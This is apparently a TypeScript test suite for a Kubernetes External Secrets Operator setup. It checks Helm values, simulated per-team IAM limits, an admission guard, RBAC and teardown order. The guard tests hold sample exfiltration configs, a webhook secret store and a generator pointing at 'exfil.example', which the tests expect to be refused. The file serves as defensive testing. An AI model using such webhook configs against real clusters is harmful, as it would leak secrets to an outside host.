import type { IClusterSecretStore } from "@kubernetes-models/external-secrets/external-secrets.io/v1/ClusterSecretStore";
import type { IExternalSecret } from "@kubernetes-models/external-secrets/external-secrets.io/v1/ExternalSecret";
import type { ISecretStore } from "@kubernetes-models/external-secrets/external-secrets.io/v1/SecretStore";
import { expect } from "chai";
import { ExternalSecrets, resolveEnvironmentConfig, TeamSecrets } from "../components";
import { environmentKeyPolicy } from "../components/encryption/environmentKey";
import { secretsGuardPolicy } from "../components/secrets/guard";
import { operatorPolicy, readerPolicy, readerRoleName, readerTrust } from "../components/secrets/iam";
import { CONTEXT_NAMES, context, KEY_ARN } from "./badInput";
import { dependsOn, difference, releaseNamed } from "./addons";
import { admit } from "./cel";
import { json, planStack, register, validInput } from "./harness";
import { simulate } from "./iam";

const STORE = "kubernetes:external-secrets.io/v1:SecretStore";
const CLUSTER_STORE = "kubernetes:external-secrets.io/v1:ClusterSecretStore";
const SCOPE = { environment: "acme-staging", region: "eu-west-1", accountId: "444455556666" };
const OPERATOR = "arn:aws:iam::444455556666:role/acme-staging-external-secrets-1a2b3c4";
const KEY = "arn:aws:kms:eu-west-1:444455556666:key/0b3a6c1e-1f1e-4f8e-9a55-0c2d3e4f5a6b";
const teamRole = (team: string) => `arn:aws:iam::444455556666:role/envstack/acme-staging/secrets/teams/${team}/${readerRoleName("acme-staging", team)}`;

/** An ExternalSecret as a team writes it (the docs show this one). */
export const EXAMPLE_EXTERNAL_SECRET: IExternalSecret = {
    apiVersion: "external-secrets.io/v1",
    kind: "ExternalSecret",
    metadata: { name: "db", namespace: "payments" },
    spec: {
        refreshInterval: "1h",
        secretStoreRef: { kind: "SecretStore", name: "secrets-manager" },
        target: { name: "db", creationPolicy: "Owner" },
        data: [{ secretKey: "password", remoteRef: { key: "acme-staging/payments/db", property: "password" } }],
    },
};

describe("External Secrets Operator", () => {
    let staging: Awaited<ReturnType<typeof planStack>>;
    before(async () => {
        staging = await planStack("staging");
    });
    const r = () => staging.registered;
    const values = () => releaseNamed(r(), "external-secrets").inputs.values as Record<string, any>;
    const teams = () => r().ofType("envstack:index:Team").map((t) => t.name.replace(/^acme-staging-/, ""));

    it("installs the pinned chart with its CRDs, two of each of its three deployments on the system nodes, one leading", () => {
        const release = releaseNamed(r(), "external-secrets");
        expect(release.inputs).to.include({ chart: "external-secrets", version: "2.9.0", namespace: "kube-system" });
        expect(release.inputs.repositoryOpts).to.deep.equal({ repo: "https://charts.external-secrets.io" });
        const v = values();
        expect(v).to.include({ installCRDs: true, replicaCount: 2, leaderElect: true });
        for (const part of [v, v.webhook, v.certController]) {
            expect(part).to.include({ replicaCount: 2, priorityClassName: "system-cluster-critical" });
            expect(part.podDisruptionBudget).to.deep.equal({ enabled: true, minAvailable: 1 });
            expect(part.resources.requests).to.have.keys("cpu", "memory");
        }
        expect(v.global.nodeSelector).to.deep.equal({ "kubernetes.io/os": "linux", "envstack.io/node-group": "system" });
        expect(v.crds).to.deep.equal({ unsafeServeV1Beta1: false });
    });

    it("gives the operator no more than it needs: no token minting, no rights through edit or admin, no pushing secrets out", () => {
        const v = values();
        expect(v.rbac).to.deep.equal({ serviceAccountTokenCreate: false, aggregateToEdit: false, aggregateToAdmin: false });
        expect(v).to.include({ processPushSecret: false, processClusterPushSecret: false, processClusterGenerator: false });
        expect(v.serviceAccount).to.deep.equal({ create: true, name: "external-secrets" });
        const policy = json(r().one("aws:iam/rolePolicy:RolePolicy", "acme-staging-external-secrets-assume").inputs.policy);
        expect(policy.Statement).to.deep.equal([{ Sid: "AssumeThisEnvironmentsReaders", Effect: "Allow", Action: "sts:AssumeRole", Resource: "arn:aws:iam::444455556666:role/envstack/acme-staging/secrets/*" }]);
    });

    it("renders the team stores, the platform stores and the docs' ExternalSecret valid against the upstream schemas", async () => {
        const { SecretStore } = await import("@kubernetes-models/external-secrets/external-secrets.io/v1/SecretStore");
        const { ClusterSecretStore } = await import("@kubernetes-models/external-secrets/external-secrets.io/v1/ClusterSecretStore");
        const { ExternalSecret } = await import("@kubernetes-models/external-secrets/external-secrets.io/v1/ExternalSecret");
        const stores = r().ofType(STORE);
        expect(stores.map((s) => `${(s.inputs as any).metadata.namespace}/${(s.inputs as any).metadata.name}`).sort()).to.deep.equal(teams().flatMap((t) => [`${t}/parameter-store`, `${t}/secrets-manager`]).sort());
        for (const s of stores) new SecretStore(s.inputs as unknown as ISecretStore).validate();
        const cluster = r().ofType(CLUSTER_STORE);
        expect(cluster.map((s) => (s.inputs as any).metadata.name).sort()).to.deep.equal(["platform-parameter-store", "platform-secrets-manager"]);
        for (const s of cluster) new ClusterSecretStore(s.inputs as unknown as IClusterSecretStore).validate();
        new ExternalSecret(EXAMPLE_EXTERNAL_SECRET).validate();
        // The validator is not a rubber stamp.
        const bad = { ...(stores[0].inputs as unknown as ISecretStore), spec: { provider: { aws: { service: "S3" } } } } as unknown as ISecretStore;
        expect(() => new SecretStore(bad).validate()).to.throw(/service/);
    });

    it("points each team's stores at its own reader role, and the platform's stores at theirs, refused to team namespaces", () => {
        for (const team of teams()) {
            const reader = r().one("aws:iam/role:Role", `acme-staging-${team}-secrets`);
            expect(reader.inputs).to.include({ name: readerRoleName("acme-staging", team), path: `/envstack/acme-staging/secrets/teams/${team}/` });
            for (const store of r().ofType(STORE).filter((s) => (s.inputs as any).metadata.namespace === team)) {
                expect((store.inputs as any).spec.provider.aws).to.deep.include({ region: "eu-west-1", role: reader.outputs.arn });
                expect(store.dependencies).to.include(releaseNamed(r(), "external-secrets").urn);
            }
            expect(json(reader.inputs.assumeRolePolicy).Statement[0].Principal).to.deep.equal({ AWS: r().one("aws:iam/role:Role", "acme-staging-external-secrets").outputs.arn });
        }
        for (const store of r().ofType(CLUSTER_STORE)) {
            expect((store.inputs as any).spec.conditions).to.deep.equal([{ namespaceSelector: { matchExpressions: [{ key: "envstack.io/team", operator: "DoesNotExist" }] } }]);
            expect((store.inputs as any).spec.provider.aws.role).to.equal(r().one("aws:iam/role:Role", "acme-staging-external-secrets-platform").outputs.arn);
        }
    });

    describe("its IAM, simulated", () => {
        const secret = (path: string) => `arn:aws:secretsmanager:eu-west-1:444455556666:secret:${path}-AbCdEf`;
        const parameter = (path: string) => `arn:aws:ssm:eu-west-1:444455556666:parameter${path}`;
        const a = readerPolicy(SCOPE, "payments", KEY);

        it("lets team A's reader read its own prefix in both services, and nothing of team B's", async () => {
            expect(await simulate([a], { action: "secretsmanager:GetSecretValue", resource: secret("acme-staging/payments/db") })).to.equal("Allowed");
            expect(await simulate([a], { action: "ssm:GetParameter", resource: parameter("/acme-staging/payments/db/password") })).to.equal("Allowed");
            expect(await simulate([a], { action: "ssm:GetParametersByPath", resource: parameter("/acme-staging/payments") })).to.equal("Allowed");
            for (const other of ["acme-staging/storefront/db", "acme-staging/payments-x/db", "acme-prod/payments/db", "acme-staging/_platform/grafana"]) {
                expect(await simulate([a], { action: "secretsmanager:GetSecretValue", resource: secret(other) }), other).to.equal("ImplicitlyDenied");
            }
            expect(await simulate([a], { action: "ssm:GetParameter", resource: parameter("/acme-staging/storefront/db") })).to.equal("ImplicitlyDenied");
            expect(await simulate([a], { action: "secretsmanager:PutSecretValue", resource: secret("acme-staging/payments/db") })).to.equal("ImplicitlyDenied");
        });

        it("decrypts with the environment key only through Secrets Manager or Parameter Store, for the team's own names", async () => {
            // The environment key's own policy delegates to IAM, as KMS requires.
            const keyPolicy = environmentKeyPolicy({ environmentName: "acme-staging", region: "eu-west-1", accountId: "444455556666", deletionWindowInDays: 30, protect: false, tags: {} });
            const via = (service: string, context: Record<string, string>) =>
                simulate([a], { action: "kms:Decrypt", resource: KEY, resourcePolicy: keyPolicy, context: { "kms:ViaService": `${service}.eu-west-1.amazonaws.com`, ...context } });
            expect(await via("secretsmanager", { "kms:EncryptionContext:SecretARN": secret("acme-staging/payments/db") })).to.equal("Allowed");
            expect(await via("ssm", { "kms:EncryptionContext:PARAMETER_ARN": parameter("/acme-staging/payments/db") })).to.equal("Allowed");
            expect(await via("secretsmanager", { "kms:EncryptionContext:SecretARN": secret("acme-staging/storefront/db") })).to.equal("ImplicitlyDenied");
            expect(await via("s3", { "kms:EncryptionContext:SecretARN": secret("acme-staging/payments/db") })).to.equal("ImplicitlyDenied");
            expect(await simulate([a], { action: "kms:Decrypt", resource: KEY, resourcePolicy: keyPolicy })).to.equal("ImplicitlyDenied");
        });

        it("lets the operator assume this environment's readers only, and each reader trust only the operator", async () => {
            const operator = operatorPolicy(SCOPE);
            expect(await simulate([operator], { action: "sts:AssumeRole", resource: teamRole("payments") })).to.equal("Allowed");
            expect(await simulate([operator], { action: "sts:AssumeRole", resource: "arn:aws:iam::444455556666:role/acme-staging-karpenter-controller" })).to.equal("ImplicitlyDenied");
            expect(await simulate([operator], { action: "sts:AssumeRole", resource: "arn:aws:iam::444455556666:role/envstack/acme-prod/secrets/teams/payments/acme-prod-secrets-payments" })).to.equal("ImplicitlyDenied");
            expect(await simulate([operator], { action: "secretsmanager:GetSecretValue", resource: secret("acme-staging/payments/db") })).to.equal("ImplicitlyDenied");
            const trust = readerTrust(OPERATOR);
            const assume = (principal: string) => simulate([], { action: "sts:AssumeRole", resource: teamRole("payments"), principal, resourcePolicy: trust });
            expect(await assume(OPERATOR)).to.equal("Allowed");
            expect(await assume("arn:aws:iam::444455556666:role/payments-developers")).not.to.equal("Allowed");
        });

        it("keeps the platform's prefix and reader from a team named platform", async () => {
            const team = readerPolicy(SCOPE, "platform", KEY);
            expect(await simulate([team], { action: "secretsmanager:GetSecretValue", resource: secret("acme-staging/_platform/grafana") })).to.equal("ImplicitlyDenied");
            expect(await simulate([team], { action: "ssm:GetParameter", resource: parameter("/acme-staging/_platform/grafana") })).to.equal("ImplicitlyDenied");
            expect(readerRoleName("acme-staging", "platform")).not.to.equal(readerRoleName("acme-staging", "_platform"));
        });

        it("names a reader within IAM's 64 characters, distinctly, however long the team's name", () => {
            const long = "t".repeat(60);
            expect(readerRoleName("acme-staging", long)).to.have.length(64);
            expect(readerRoleName("acme-staging", long)).not.to.equal(readerRoleName("acme-staging", `${"t".repeat(59)}u`));
            expect(readerRoleName("acme-staging", "payments")).to.equal("acme-staging-secrets-payments");
        });
    });

    describe("the team guard: a team's objects can reach its own secrets only", () => {
        const policy = secretsGuardPolicy(SCOPE);
        const request = (resource: string, object: object, group = "external-secrets.io", team = "payments") =>
            admit(policy, { request: { operation: "CREATE", resource: { group, resource } }, object, oldObject: null, namespaceObject: { metadata: { name: team, labels: { "envstack.io/team": team } } } });
        const store = (aws: object, extra: object = {}) => ({ metadata: { name: "mine" }, spec: { provider: { aws: { service: "SecretsManager", region: "eu-west-1", ...aws }, ...extra } } });
        const external = (spec: object) => ({ metadata: { name: "db" }, spec });

        it("admits the stores envstack makes and the docs' ExternalSecret", async () => {
            expect(await request("secretstores", store({ role: teamRole("payments") }))).to.equal("admitted");
            expect(await request("externalsecrets", EXAMPLE_EXTERNAL_SECRET)).to.equal("admitted");
            expect(await request("externalsecrets", external({ dataFrom: [{ sourceRef: { generatorRef: { kind: "Password", name: "pw" } } }] }))).to.equal("admitted");
            expect(await request("passwords", { metadata: { name: "pw" }, spec: { length: 32 } }, "generators.external-secrets.io")).to.equal("admitted");
        });

        it("refuses a store with another team's role, a look-alike role, no role, chained roles, own credentials or another provider", async () => {
            for (const [what, object] of [
                ["another team's role", store({ role: teamRole("storefront") })],
                ["a team whose name starts the same", store({ role: teamRole("payments-x") })],
                ["the platform's role", store({ role: "arn:aws:iam::444455556666:role/envstack/acme-staging/secrets/_platform/acme-staging-secrets-_platform" })],
                ["no role (the operator's own)", store({})],
                ["chained roles", store({ role: teamRole("payments"), additionalRoles: [teamRole("storefront")] })],
                ["static keys", store({ role: teamRole("payments"), auth: { secretRef: { accessKeyIDSecretRef: { name: "k", key: "id" } } } })],
                ["a webhook provider", { metadata: { name: "x" }, spec: { provider: { webhook: { url: "https://exfil.example/{{ .remoteRef.key }}" } } } }],
                ["a second provider beside its own", store({ role: teamRole("payments") }, { vault: { server: "https://vault.example" } })],
            ] as [string, object][]) {
                expect(await request("secretstores", object), what).not.to.equal("admitted");
            }
        });

        it("refuses ExternalSecrets that use a ClusterSecretStore or a generator that calls out, and generators or PushSecrets themselves", async () => {
            expect(await request("externalsecrets", external({ secretStoreRef: { kind: "ClusterSecretStore", name: "platform-secrets-manager" }, data: [] }))).not.to.equal("admitted");
            expect(await request("externalsecrets", external({ data: [{ secretKey: "k", remoteRef: { key: "x" }, sourceRef: { storeRef: { kind: "ClusterSecretStore", name: "platform-secrets-manager" } } }] }))).not.to.equal("admitted");
            for (const kind of ["STSSessionToken", "ECRAuthorizationToken", "Webhook", "ClusterGenerator", "VaultDynamicSecret"]) {
                expect(await request("externalsecrets", external({ dataFrom: [{ sourceRef: { generatorRef: { kind, name: "g" } } }] })), kind).not.to.equal("admitted");
            }
            expect(await request("externalsecrets", { ...EXAMPLE_EXTERNAL_SECRET, spec: { ...EXAMPLE_EXTERNAL_SECRET.spec, refreshInterval: "1s" } })).to.deep.equal([
                "in a team namespace, an ExternalSecret refreshes at most every 1m (refreshInterval 1m or more, or 0 for never)",
            ]);
            expect(await request("externalsecrets", { ...EXAMPLE_EXTERNAL_SECRET, spec: { ...EXAMPLE_EXTERNAL_SECRET.spec, refreshInterval: "0" } })).to.equal("admitted");
            expect(await request("stssessiontokens", { metadata: { name: "g" }, spec: { role: teamRole("storefront") } }, "generators.external-secrets.io")).not.to.equal("admitted");
            expect(await request("webhooks", { metadata: { name: "g" }, spec: { url: "https://exfil.example" } }, "generators.external-secrets.io")).not.to.equal("admitted");
            expect(await request("pushsecrets", { metadata: { name: "p" }, spec: {} })).to.deep.equal([
                "PushSecrets are refused in team namespaces: the team's stores are read-only; write secrets with the AWS CLI or your pipeline",
            ]);
        });

        it("is created with the operator, after its release (the CRDs)", () => {
            const vap = r().ofType("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy").find((p) => (p.inputs as any).metadata.name === "envstack-team-secrets-guard")!;
            expect(vap.dependencies).to.include(releaseNamed(r(), "external-secrets").urn);
            expect(JSON.stringify(vap.inputs)).to.include("arn:aws:iam::444455556666:role/envstack/acme-staging/secrets/teams/");
            for (const store of r().ofType(STORE)) expect(dependsOn(r(), store, vap), store.name).to.equal(true);
        });
    });

    it("lets members manage ExternalSecrets and local generators, and only read stores", () => {
        const role = r().ofType("kubernetes:rbac.authorization.k8s.io/v1:Role").find((x) => (x.inputs as any).metadata.name === "envstack-team-secrets" && (x.inputs as any).metadata.namespace === teams()[0])!;
        expect((role.inputs as any).rules).to.deep.equal([
            { apiGroups: ["external-secrets.io"], resources: ["externalsecrets"], verbs: ["get", "list", "watch", "create", "update", "patch", "delete"] },
            { apiGroups: ["external-secrets.io"], resources: ["secretstores"], verbs: ["get", "list", "watch"] },
            { apiGroups: ["generators.external-secrets.io"], resources: ["passwords", "sshkeys", "uuids"], verbs: ["get", "list", "watch", "create", "update", "patch", "delete"] },
        ]);
    });

    it("orders teardown: team stores before the operator (its CRDs), the operator before its role and the cluster", () => {
        const release = releaseNamed(r(), "external-secrets");
        for (const store of [...r().ofType(STORE), ...r().ofType(CLUSTER_STORE)]) expect(dependsOn(r(), store, release), store.name).to.equal(true);
        for (const store of r().ofType(STORE)) {
            const ns = r().one("kubernetes:core/v1:Namespace", `acme-staging-${(store.inputs as any).metadata.namespace}`);
            expect(dependsOn(r(), store, ns)).to.equal(true);
        }
        expect(dependsOn(r(), release, r().one("aws:eks/podIdentityAssociation:PodIdentityAssociation", "acme-staging-external-secrets"))).to.equal(true);
        expect(dependsOn(r(), release, r().one("eks:index:Cluster"))).to.equal(true);
    });

    it("turned off in a stack, removes exactly its own resources and each team's stores", async () => {
        const base = resolveEnvironmentConfig(validInput("staging")).platform;
        const teams = [{ name: "payments", roleArn: "arn:aws:iam::111122223333:role/payments-developers" }];
        const { removed, added } = await difference("staging", base, { ...base, externalSecrets: { enabled: false, replicas: 2 } }, { teams } as never);
        expect(added).to.deep.equal([]);
        expect(removed.every((n) => n.includes("external-secrets") || n.includes("payments-secrets")), removed.join("\n")).to.equal(true);
        expect(removed.filter((n) => n.startsWith("envstack:index:")).sort()).to.deep.equal(["envstack:index:ExternalSecrets::acme-staging-external-secrets", "envstack:index:TeamSecrets::acme-staging-payments-secrets"]);
        // The operator: its component, role, policy, association, platform reader and policy, release, guard and binding, two ClusterSecretStores;
        // the team: its component, reader and policy, Role and binding, two SecretStores.
        expect(removed).to.have.length(18);
    });

    it("used on their own, refuse bad arguments before registering anything", async () => {
        const problems: string[] = [];
        const registered = await register(() => {
            const ctx = context();
            const common = { region: "eu-west-1", accountId: "111122223333", kmsKeyArn: KEY_ARN, k8sProvider: ctx.provider, tags: {} };
            for (const build of [
                () => new ExternalSecrets("eso", { ...common, replicas: 9, environmentName: "Acme Dev", clusterName: "acme-dev", versions: ctx.config.versions }),
                () => new TeamSecrets("team", { ...common, team: "Payments", environmentName: "acme-dev", operatorRoleArn: "arn:aws:iam::111122223333:user/operator" }),
            ]) {
                try {
                    build();
                } catch (err) {
                    problems.push((err as Error).message);
                }
            }
        });
        expect(problems[0]).to.include("replicas: got 9").and.to.include('environmentName: got "Acme Dev"');
        expect(problems[1]).to.include('team: got "Payments"').and.to.include('operatorRoleArn: got "arn:aws:iam::111122223333:user/operator"');
        expect(registered.all.map((x) => x.name).filter((n) => !CONTEXT_NAMES.includes(n))).to.deep.equal([]);
    });
});
